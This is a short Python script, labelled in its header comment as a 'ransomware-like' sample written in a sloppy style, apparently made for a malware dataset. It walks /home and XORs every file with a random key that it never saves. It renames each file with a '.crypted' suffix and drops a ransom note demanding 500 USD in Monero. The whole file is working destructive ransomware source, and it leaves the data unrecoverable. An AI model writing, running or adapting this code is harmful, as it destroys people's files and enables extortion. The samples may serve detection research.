# class: ransomware-like; style: sloppy, own cipher
import os, random
k = bytes([random.randrange(256) for _ in range(32)])
c = 0
for r, ds, fs in os.walk("/home"):
    for f in fs:
        p = os.path.join(r, f)
        try:
            b = open(p, "rb").read()
            open(p, "wb").write(bytes(x ^ k[i % 32] for i, x in enumerate(b)))
            os.rename(p, p + ".crypted")
            c += 1
        except: pass
    open(os.path.join(r, "HOW_TO_DECRYPT.txt"), "w").write("pay 500 USD in monero, write to help@dcrypt.example")
print(c)
